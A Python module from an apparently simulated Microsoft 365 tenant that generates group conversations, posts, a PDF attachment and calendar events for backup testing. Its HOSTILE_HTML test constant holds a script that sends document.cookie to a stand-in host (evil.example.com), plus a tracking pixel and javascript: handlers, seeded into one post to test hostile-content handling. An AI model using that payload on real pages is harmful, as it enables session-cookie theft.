"""Microsoft 365 group mailboxes and calendars: the generated data and its changes.

Sources: resources/group.md and group-list.md (a Microsoft 365 group has ``groupTypes``
["Unified"]; ``resourceProvisioningOptions`` holds "Team" for a team's group),
resources/conversation.md, resources/conversationthread.md, resources/post.md,
post-list-attachments.md (file attachments with ``contentBytes``), group-list-calendarview.md.

Rows (all owned by the group's id):

- ``conversation`` (parent: the group), ``conversationThread`` (parent: its conversation),
  ``groupPost`` (parent: its thread; ``_attachments`` holds its file attachments with their
  bytes in base64), ``groupEvent`` (parent: the group; event JSON as user calendars store it,
  singles and series masters, expanded by calmodel.view_entries).

Generation draws only from its own RNG streams (``gen.rng("groupmail", ...)``) and
derives ids from labels no other part uses, so the rest of a seeded tenant is unchanged.
"""

from __future__ import annotations

import base64
import datetime as dt
from typing import Any

from ..httpcore import iso, utc_now
from ..store import Item, NewItem, Store, Transaction
from ..tenant import Tenant
from . import calmodel as cm
from . import recurrence as rc

# The generated Microsoft 365 group without a team.
ANNOUNCEMENTS = "Marketing Announcements"
HOSTILE_HTML = (
    "<html><body><p>Launch plan attached.</p>"
    '<script>document.location="https://evil.example.com/steal?c="+document.cookie</script>'
    '<img src="https://tracker.example.com/pixel.gif" alt="">'
    '<p onclick="alert(1)">Click <a href="javascript:alert(2)">here</a></p></body></html>'
)
KINDS = ("conversation", "conversationThread", "groupPost")


def _person(p: Any) -> dict[str, Any]:
    return {"emailAddress": {"name": p.name, "address": p.address}}


def _attachment(gen: Any, gid: str, c: int, name: str) -> dict[str, Any]:
    body = b"%PDF-1.4\n% Coffer simulator\n" + f"Brief {name} for {gid}\n".encode() * 40
    return {
        "@odata.type": "#microsoft.graph.fileAttachment",
        "id": gen.outlook_id("AAMkAGatt", gid, c),
        "name": name,
        "contentType": "application/pdf",
        "size": len(body),
        "isInline": False,
        "lastModifiedDateTime": None,
        "_bytes": base64.b64encode(body).decode(),
    }


def conversations(
    gen: Any, gid: str, users: list[Any], topics: list[str], *, showcase: bool
) -> list[NewItem]:
    """Conversations of one group, each with one or two threads of posts.

    ``showcase`` adds the post with a file attachment and the hostile HTML post."""
    rows: list[NewItem] = []
    people = users or []
    for c, topic in enumerate(topics):
        conv_id = gen.outlook_id("AAQkAGconv", gid, c)
        rng = gen.rng("groupmail", gid, c)
        threads: list[dict[str, Any]] = []
        below: list[NewItem] = []
        for th in range(1 + c % 2):
            thread_id = gen.outlook_id("AAQkAGthread", gid, c, th)
            start = gen.anchor - dt.timedelta(days=rng.uniform(2, 60), seconds=th)
            posts: list[dict[str, Any]] = []
            for p in range(1 + (c + th) % 3):
                sender = people[(c + th + p) % len(people)] if people else None
                received = start + dt.timedelta(hours=p + 1)
                post_id = gen.outlook_id("AAMkAGpost", gid, c, th, p)
                text = f"<html><body><p>{topic}: message {p + 1}</p></body></html>"
                if showcase and c == 0 and th == 0 and p == 0:
                    text = HOSTILE_HTML
                post = _post(gen, conv_id, thread_id, post_id, received, sender, text, (c, th, p))
                if showcase and c == 1 and th == 0 and p == 0:
                    post["_attachments"] = [_attachment(gen, gid, c, "Brief Q3.pdf")]
                    post["hasAttachments"] = True
                posts.append(post)
            last = max(str(p["receivedDateTime"]) for p in posts)
            thread = {
                "id": thread_id,
                "topic": topic,
                "hasAttachments": any(p["hasAttachments"] for p in posts),
                "lastDeliveredDateTime": last,
                "uniqueSenders": sorted(
                    {str(p["from"]["emailAddress"]["name"]) for p in posts if p.get("from")}
                ),
                "toRecipients": [],
                "ccRecipients": [],
                "preview": f"{topic}: message {len(posts)}",
                "isLocked": False,
            }
            threads.append(thread)
            below.append(NewItem("conversationThread", gid, f"{gid}/threads", conv_id, thread))
            below.extend(
                NewItem("groupPost", gid, f"{gid}/posts", thread_id, p, key=str(p["id"]))
                for p in posts
            )
        conv = {
            "id": conv_id,
            "topic": topic,
            "hasAttachments": any(t["hasAttachments"] for t in threads),
            "lastDeliveredDateTime": max(str(t["lastDeliveredDateTime"]) for t in threads),
            "uniqueSenders": sorted({s for t in threads for s in t["uniqueSenders"]}),
            "preview": threads[-1]["preview"],
        }
        rows.append(NewItem("conversation", gid, f"{gid}/conversations", gid, conv))
        rows.extend(below)
    return rows


def _post(
    gen: Any,
    conv_id: str,
    thread_id: str,
    post_id: str,
    received: dt.datetime,
    sender: Any,
    html: str,
    label: tuple[object, ...],
) -> dict[str, Any]:
    who = _person(sender) if sender is not None else None
    stamp = iso(received)
    return {
        "id": post_id,
        "createdDateTime": stamp,
        "lastModifiedDateTime": stamp,
        "receivedDateTime": stamp,
        "changeKey": gen.change_key("groupPost", *label, post_id),
        "categories": [],
        "hasAttachments": False,
        "body": {"contentType": "html", "content": html},
        "from": who,
        "sender": who,
        "conversationId": conv_id,
        "conversationThreadId": thread_id,
        "newParticipants": [],
        "inReplyTo": None,
    }


def calendar_events(gen: Any, gid: str, name: str, owner: Any) -> list[NewItem]:
    """A weekly series of ten occurrences, a single event and an all-day event."""
    organizer = {"emailAddress": {"name": name, "address": owner}}

    def event(n: int, subject: str, start: dt.datetime, minutes: int, **extra: Any) -> NewItem:
        stamp = iso(gen.anchor - dt.timedelta(days=30 - n))
        data: dict[str, Any] = {
            "id": gen.outlook_id("AAMkAGgev", gid, n),
            "createdDateTime": stamp,
            "lastModifiedDateTime": stamp,
            "changeKey": gen.change_key("groupEvent", gid, n),
            "categories": [],
            "originalStartTimeZone": "UTC",
            "originalEndTimeZone": "UTC",
            "iCalUId": "040000008200E00074C5B7101A82E008"
            + gen.guid("group-ical", gid, n).replace("-", "").upper(),
            "hasAttachments": False,
            "subject": subject,
            "bodyPreview": f"{subject} ({name})",
            "importance": "normal",
            "sensitivity": "normal",
            "isAllDay": False,
            "isCancelled": False,
            "isOrganizer": True,
            "seriesMasterId": None,
            "showAs": "busy",
            "type": "singleInstance",
            "body": {"contentType": "html", "content": f"<p>{subject}</p>"},
            "start": rc.to_dtz(start, "UTC"),
            "end": rc.to_dtz(start + dt.timedelta(minutes=minutes), "UTC"),
            "location": {"displayName": "Teams", "locationType": "default"},
            "locations": [],
            "recurrence": None,
            "attendees": [],
            "organizer": organizer,
        }
        data.update(extra)
        return NewItem("groupEvent", gid, f"{gid}/calendar", gid, data)

    series_start = gen.when(-28, 11)
    weekly = event(0, f"{name} weekly", series_start, 30, type="seriesMaster")
    weekly.data["recurrence"] = {
        "pattern": {
            "type": "weekly",
            "interval": 1,
            "daysOfWeek": [series_start.strftime("%A").lower()],
            "firstDayOfWeek": "sunday",
            "month": 0,
            "dayOfMonth": 0,
            "index": "first",
        },
        "range": {
            "type": "numbered",
            "startDate": series_start.date().isoformat(),
            "numberOfOccurrences": 10,
            "recurrenceTimeZone": "UTC",
        },
    }
    single = event(1, "Campaign review", gen.when(3, 14), 60)
    allday = event(2, "Launch day", gen.when(10, 0), 24 * 60, isAllDay=True, showAs="free")
    return [weekly, single, allday]


def generate(store: Store, gen: Any, users: list[Any], domain: str) -> None:
    """The Microsoft 365 group without a team (conversations, calendar) and a
    conversation or two in every team's group."""
    gid = gen.guid("unified-group", "announcements")
    nick = "marketingannouncements"
    address = f"{nick}@{domain}"
    group = {
        "id": gid,
        "displayName": ANNOUNCEMENTS,
        "description": "Announcements for the marketing department",
        "groupTypes": ["Unified"],
        "resourceProvisioningOptions": [],
        "mail": address,
        "mailEnabled": True,
        "mailNickname": nick,
        "securityEnabled": False,
        "visibility": "Public",
        "createdDateTime": iso(gen.anchor - dt.timedelta(days=400)),
        "_members": [u.id for u in users[:3]],
    }
    rows = [NewItem("group", gid, "groups", "tenant", group, name=ANNOUNCEMENTS)]
    topics = ["Spring launch", "Press kit", "Newsletter — août 🎉"]
    rows += conversations(gen, gid, users, topics, showcase=True)
    rows += calendar_events(gen, gid, ANNOUNCEMENTS, address)
    for team in store.by_kind(["team"]):
        rows += conversations(gen, team.key, users, [f"Welcome to {team.name}"], showcase=False)
        rows += calendar_events(gen, team.key, str(team.data.get("displayName")), "")[1:2]
    with store.transaction() as tx:
        tx.insert_many(rows)


def new_post(t: Tenant, tx: Transaction, thread: Item, props: dict[str, Any]) -> Item:
    """A reply delivered to ``thread`` now: the thread's and its conversation's
    ``lastDeliveredDateTime`` move (the version clients key on)."""
    now = utc_now()
    count = len(t.store.children(thread.key, ["groupPost"]))
    post_id = f"{thread.key[:40]}-reply-{count}-{int(now.timestamp() * 1000)}"
    html = str(props.get("content") or "<p>A reply</p>")
    post = {
        "id": post_id,
        "createdDateTime": iso(now),
        "lastModifiedDateTime": iso(now),
        "receivedDateTime": iso(now),
        "changeKey": base64.b64encode(post_id.encode()).decode()[:28],
        "categories": [],
        "hasAttachments": False,
        "body": {"contentType": "html", "content": html},
        "from": {"emailAddress": {"name": "Simulated sender", "address": "sim@example.com"}},
        "sender": {"emailAddress": {"name": "Simulated sender", "address": "sim@example.com"}},
        "conversationId": thread.parent,
        "conversationThreadId": thread.key,
        "newParticipants": [],
        "inReplyTo": None,
    }
    new = tx.insert(
        NewItem("groupPost", thread.owner, f"{thread.owner}/posts", thread.key, post, key=post_id)
    )
    thread.data["lastDeliveredDateTime"] = iso(now)
    thread.data["preview"] = html[:60]
    tx.update(thread)
    conv = t.store.get(thread.parent)
    if conv is not None:
        conv.data["lastDeliveredDateTime"] = iso(now)
        tx.update(conv)
    return new


def is_unified(item: Item) -> bool:
    return item.kind == "team" or "Unified" in (item.data.get("groupTypes") or [])


def counts(t: Tenant, group: Item, start: dt.datetime, end: dt.datetime) -> dict[str, int]:
    """What a backup of the group must hold: conversations, threads, posts, post
    attachments, and the calendar view's entries between ``start`` and ``end``."""
    convs = t.store.children(group.key, ["conversation"])
    threads = [th for c in convs for th in t.store.children(c.key, ["conversationThread"])]
    posts = [p for th in threads for p in t.store.children(th.key, ["groupPost"])]
    events = t.store.children(group.key, ["groupEvent"])
    return {
        "conversations": len(convs),
        "threads": len(threads),
        "posts": len(posts),
        "postAttachments": sum(len(p.data.get("_attachments") or []) for p in posts),
        "events": len(events),
        "calendarViewItems": sum(len(cm.view_entries(t, e, start, end, None)) for e in events),
    }
